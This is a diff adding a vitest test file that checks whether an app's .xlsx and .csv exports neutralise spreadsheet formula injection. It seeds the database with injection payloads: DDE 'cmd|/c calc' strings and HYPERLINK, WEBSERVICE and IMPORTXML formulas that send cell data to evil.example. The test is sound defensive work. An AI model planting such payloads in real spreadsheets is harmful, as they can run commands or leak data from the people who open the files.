@@ -1,0 +1,254 @@
+/**
+ * Issue 8, safe exports: every .xlsx and .csv the app writes keeps formula-like text (leading `=`,
+ * `+`, `-`, `@`, tab, carriage return) harmless and readable. The database is seeded with such text in
+ * every place an export shows (scan, initiative, activity, organisation, unmapped value); each
+ * exporter is called through the app's own channels, and its file is read back WITHOUT SheetJS: the
+ * zip and sheet XML by hand (tests/helpers/ooxml.ts readZip), the CSV by a small RFC 4180 parser here.
+ *
+ * .xlsx: no cell has a formula (`<f>`), and every formula-like text is a string cell, exactly as
+ * written. .csv: no field starts with a formula character; such text gets a leading apostrophe.
+ *
+ * Future exporters: EXPORTERS lists every exporting channel; a test fails when a channel named like
+ * an export, or a module in src-main that writes spreadsheets, is not covered here.
+ */
+import { readdirSync, readFileSync } from 'node:fs';
+import { join, relative } from 'node:path';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { CHANNELS } from '../../src-shared/contract';
+import { emptyFilter, type Filter } from '../../src-shared/filter';
+import type { Db } from '../../src-main/db/open';
+import { dispatch, isChannel } from '../../src-main/handlers/dispatch';
+import { commitImport, prepareImport } from '../../src-main/import/pipeline';
+import { invalidateIndex } from '../../src-main/query/activity-index';
+import { ensureSampleScan, sampleScanPath } from '../../src-main/sample';
+import { REPO_ROOT } from '../../src-main/version';
+import { memoryDb, TEST_ENV } from '../helpers/db';
+import { readZip } from '../helpers/ooxml';
+
+const FORMULA_LIKE = /^[=+\-@\t\r]/;
+
+/** Planted in the database; each must reach an export as this very text (a CSV adds one apostrophe). */
+const PLANTED = {
+  region: "=cmd|'/c calc'!A1",
+  initiative: '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
+  initiativeDescription: '@SUM(1+1)*cmd|\'/c calc\'!A0',
+  website: '=WEBSERVICE("http://evil.example/")',
+  activity: '+31 50 123 4567',
+  activityDescription: '-2+3+cmd|\'/c calc\'!A0',
+  activity2: '\t=1+1',
+  activity2Description: '\r=1+1',
+  organisation: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+  unmapped: '@HYPERLINK("http://evil.example")',
+};
+const PLANTED_TEXTS = Object.values(PLANTED);
+
+interface Context {
+  filter: Filter;
+  scanIds: number[];
+}
+
+interface Exporter {
+  channel: string;
+  label: string;
+  args: (ctx: Context) => unknown;
+  /** False for files without the user's data (the template): they are still checked for formulas. */
+  hasData: boolean;
+}
+
+/** Every exporting channel, with every format and table it offers. */
+const EXPORTERS: Exporter[] = [
+  { channel: 'export.activities', label: 'activities .xlsx', args: ({ filter }) => ({ filter, format: 'xlsx' }), hasData: true },
+  { channel: 'export.activities', label: 'activities .xlsx (English)', args: ({ filter }) => ({ filter, format: 'xlsx', language: 'en' }), hasData: true },
+  { channel: 'export.activities', label: 'activities .csv ;', args: ({ filter }) => ({ filter, format: 'csv', separator: ';' }), hasData: true },
+  { channel: 'export.activities', label: 'activities .csv ,', args: ({ filter }) => ({ filter, format: 'csv', separator: ',' }), hasData: true },
+  { channel: 'export.scan', label: 'scan as canonical workbook', args: ({ scanIds }) => ({ id: scanIds[1] }), hasData: true },
+  { channel: 'import.template', label: 'empty template', args: () => ({}), hasData: false },
+  { channel: 'export.compare', label: 'Vergelijken .xlsx', args: ({ filter, scanIds }) => ({ filter, scans: scanIds }), hasData: true },
+  { channel: 'export.whitespots', label: 'Witte vlekken .xlsx', args: ({ filter }) => ({ filter, rows: 'sector', cols: 'type', layers: null, includeOther: true }), hasData: true },
+  ...(['dimension', 'typeGeography', 'typeBottleneck', 'reach', 'quadrant', 'providers'] as const).map(
+    (table): Exporter => ({
+      channel: 'overview.export',
+      label: `Overzicht ${table} .xlsx`,
+      args: ({ filter }) => ({ filter, table, ...(table === 'dimension' ? { dimension: 'sector' } : {}) }),
+      hasData: table === 'dimension' || table === 'providers',
+    }),
+  ),
+];
+
+/** Modules that write spreadsheets, and the channels whose files they make (read-workbook.ts only reads). */
+const WRITER_MODULES: Record<string, string[]> = {
+  'src-main/export/activities-export.ts': ['export.activities'],
+  'src-main/workbook/canonical-writer.ts': ['export.scan', 'import.template'],
+  'src-main/workbook/template-lists.ts': ['import.template'],
+  'src-main/export/compare-export.ts': ['export.compare'],
+  'src-main/export/whitespots-export.ts': ['export.whitespots'],
+  'src-main/export/overview-export.ts': ['overview.export'],
+};
+const READERS = ['src-main/import/read-workbook.ts'];
+
+// ---------------------------------------------------------------------------------------------
+// Reading the files back without SheetJS
+
+function xmlText(xml: string): string {
+  return xml
+    .replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'")
+    .replace(/&#x([0-9a-f]+);/gi, (_m, h: string) => String.fromCodePoint(parseInt(h, 16)))
+    .replace(/&#(\d+);/g, (_m, d: string) => String.fromCodePoint(Number(d)))
+    .replace(/_x([0-9A-F]{4})_/g, (_m, h: string) => String.fromCharCode(parseInt(h, 16)))
+    .replace(/&amp;/g, '&');
+}
+
+/** All <t> runs of a shared-string item or an inline string, joined. */
+const runs = (xml: string) => [...xml.matchAll(/<t(?:\s[^>]*)?>([\s\S]*?)<\/t>/g)].map((m) => xmlText(m[1]!)).join('');
+
+interface XlsxCell {
+  part: string;
+  ref: string;
+  type: string;
+  text: string;
+}
+
+function readXlsx(bytes: Buffer): { parts: string[]; formulas: string[]; cells: XlsxCell[] } {
+  const entries = readZip(bytes);
+  const parts = entries.map((e) => e.name);
+  const sstXml = entries.find((e) => e.name === 'xl/sharedStrings.xml')?.data.toString('utf8') ?? '';
+  const sst = [...sstXml.matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => runs(m[1]!));
+  const formulas: string[] = [];
+  const cells: XlsxCell[] = [];
+  for (const e of entries.filter((x) => /^xl\/worksheets\/[^/]+\.xml$/.test(x.name))) {
+    const xml = e.data.toString('utf8');
+    for (const m of xml.matchAll(/<f[\s>/][\s\S]*?(?:<\/f>|\/>)/g)) formulas.push(`${e.name}: ${m[0]}`);
+    for (const m of xml.matchAll(/<c\b([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
+      const attrs = m[1]!;
+      const inner = m[2] ?? '';
+      const type = /\bt="([^"]+)"/.exec(attrs)?.[1] ?? 'n';
+      const ref = /\br="([^"]+)"/.exec(attrs)?.[1] ?? '?';
+      const v = /<v>([\s\S]*?)<\/v>/.exec(inner)?.[1];
+      const text = type === 's' ? sst[Number(v)] ?? '' : type === 'inlineStr' ? runs(inner) : xmlText(v ?? '');
+      cells.push({ part: e.name, ref, type, text });
+    }
+  }
+  return { parts, formulas, cells };
+}
+
+/** RFC 4180, by hand: quoted fields may hold separators, quotes ("") and line breaks. */
+function readCsv(bytes: Buffer, separator: string): string[][] {
+  let text = bytes.toString('utf8');
+  if (text.startsWith('\ufeff')) text = text.slice(1);
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let quoted = false;
+  const endField = () => {
+    row.push(field);
+    field = '';
+  };
+  const endRow = () => {
+    endField();
+    rows.push(row);
+    row = [];
+  };
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]!;
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (ch === '"') quoted = false;
+      else field += ch;
+    } else if (ch === '"' && field === '') quoted = true;
+    else if (ch === separator) endField();
+    else if (ch === '\r' && text[i + 1] === '\n') {
+      endRow();
+      i++;
+    } else field += ch;
+  }
+  if (field !== '' || row.length > 0) endRow();
+  return rows;
+}
+
+// ---------------------------------------------------------------------------------------------
+
+function writerModules(): string[] {
+  const out: string[] = [];
+  const walk = (dir: string) => {
+    for (const entry of readdirSync(dir, { withFileTypes: true })) {
+      const path = join(dir, entry.name);
+      if (entry.isDirectory()) walk(path);
+      else if (entry.name.endsWith('.ts') && /from 'xlsx'|csvField\(|sheet_to_csv/.test(readFileSync(path, 'utf8'))) out.push(relative(REPO_ROOT, path));
+    }
+  };
+  walk(join(REPO_ROOT, 'src-main'));
+  return out.filter((p) => !p.endsWith('safe-cells.ts')).sort();
+}
+
+describe('safe exports (issue 8)', () => {
+  let db: Db;
+  const ctx: Context = { filter: emptyFilter(), scanIds: [] };
+
+  beforeAll(async () => {
+    db = await memoryDb();
+    const sample = sampleScanPath(join(REPO_ROOT, 'data'));
+    const first = (await ensureSampleScan(db, sample))!;
+    const prepared = await prepareImport(db, readFileSync(sample), 'tweede.xlsx', { region: 'Tweede regio', year: 2023 });
+    const second = commitImport(db, prepared, () => 'keep-both')[0]!.scanId;
+    ctx.scanIds = [first, second];
+    // Formula-like text everywhere an export shows the user's data (in the second scan).
+    const ini = db.prepare('SELECT min(id) FROM initiative WHERE scan_id = ?').pluck().get(second) as number;
+    const [a1, a2] = db.prepare('SELECT id FROM activity WHERE initiative_id = ? ORDER BY id LIMIT 2').pluck().all(ini) as number[];
+    db.prepare('UPDATE scan SET region = ? WHERE id = ?').run(PLANTED.region, second);
+    db.prepare('UPDATE initiative SET name = ?, description = ?, website = ? WHERE id = ?').run(PLANTED.initiative, PLANTED.initiativeDescription, PLANTED.website, ini);
+    db.prepare('UPDATE activity SET name = ?, description = ? WHERE id = ?').run(PLANTED.activity, PLANTED.activityDescription, a1);
+    db.prepare('UPDATE activity SET name = ?, description = ? WHERE id = ?').run(PLANTED.activity2, PLANTED.activity2Description, a2);
+    // The organisation with the most activities, so that the Overzicht's providers table shows it too.
+    const org = db.prepare('SELECT organisation_id FROM provider GROUP BY organisation_id ORDER BY count(DISTINCT activity_id) DESC, organisation_id LIMIT 1').pluck().get() as number;
+    db.prepare('UPDATE organisation SET name = ? WHERE id = ?').run(PLANTED.organisation, org);
+    const value = Number(db.prepare(`INSERT INTO dimension_value (dimension, code, label_nl, label_en, kind, match_key) VALUES ('sector', NULL, ?, ?, 'unmapped', 'planted')`).run(PLANTED.unmapped, PLANTED.unmapped).lastInsertRowid);
+    db.prepare('INSERT INTO activity_value (activity_id, value_id) VALUES (?, ?)').run(a1, value);
+    invalidateIndex(db);
+  });
+
+  it('covers every exporting channel and every module that writes spreadsheets', () => {
+    const covered = new Set(EXPORTERS.map((e) => e.channel));
+    const exportLike = CHANNELS.filter((c) => /(^export\.|\.export$|template)/.test(c) && c !== 'filters.export');
+    expect(exportLike.filter((c) => !covered.has(c))).toEqual([]);
+    expect(writerModules().filter((m) => !READERS.includes(m) && !(m in WRITER_MODULES))).toEqual([]);
+    for (const channels of Object.values(WRITER_MODULES)) for (const c of channels) expect(covered.has(c)).toBe(true);
+  });
+
+  it('hands a saved filter over as JSON, not as a spreadsheet', async () => {
+    const saved = await dispatch(db, 'filters.save', { name: '=cmd', filter: emptyFilter() }, TEST_ENV);
+    const reply = await dispatch(db, 'filters.export', { id: (saved as { ok: true; value: { id: number } }).value.id }, TEST_ENV);
+    expect(reply.ok && (reply.value as { fileName: string }).fileName).toMatch(/\.json$/);
+  });
+
+  for (const exporter of EXPORTERS) {
+    it(`${exporter.label} (${exporter.channel})`, async (test) => {
+      if (!isChannel(exporter.channel)) test.skip();
+      const reply = await dispatch(db, exporter.channel, exporter.args(ctx), TEST_ENV);
+      if (!reply.ok) throw new Error(`${exporter.channel}: ${reply.error.message.en}`);
+      const file = reply.value as { fileName: string; data: string };
+      const bytes = Buffer.from(file.data, 'base64');
+      let found: string[];
+      if (file.fileName.endsWith('.csv')) {
+        const fields = readCsv(bytes, (exporter.args(ctx) as { separator: string }).separator).flat();
+        expect(fields.filter((f) => FORMULA_LIKE.test(f))).toEqual([]);
+        // Neutralised with one apostrophe, the text otherwise exactly as written.
+        const unquoted = fields.filter((f) => f.startsWith("'") && FORMULA_LIKE.test(f.slice(1))).map((f) => f.slice(1));
+        expect(unquoted.every((t) => PLANTED_TEXTS.some((p) => t.includes(p)))).toBe(true);
+        found = PLANTED_TEXTS.filter((p) => unquoted.some((t) => t.includes(p)));
+      } else {
+        expect(file.fileName).toMatch(/\.xlsx$/);
+        const { parts, formulas, cells } = readXlsx(bytes);
+        expect(formulas).toEqual([]);
+        expect(parts.filter((p) => /vbaProject|externalLink|activeX|oleObject/i.test(p))).toEqual([]);
+        const risky = cells.filter((c) => FORMULA_LIKE.test(c.text));
+        expect(risky.filter((c) => !['s', 'inlineStr', 'str'].includes(c.type))).toEqual([]);
+        found = PLANTED_TEXTS.filter((p) => cells.some((c) => c.text.includes(p)));
+        // Kept exactly: a planted text that starts a cell is that cell's whole text or its first part.
+        for (const c of risky) expect(PLANTED_TEXTS.some((p) => c.text.startsWith(p.split('(')[0]!)), `${c.part} ${c.ref}: ${JSON.stringify(c.text)}`).toBe(true);
+      }
+      if (exporter.hasData) expect(found.length, `planted texts in ${exporter.label}`).toBeGreaterThan(0);
+    });
+  }
+});
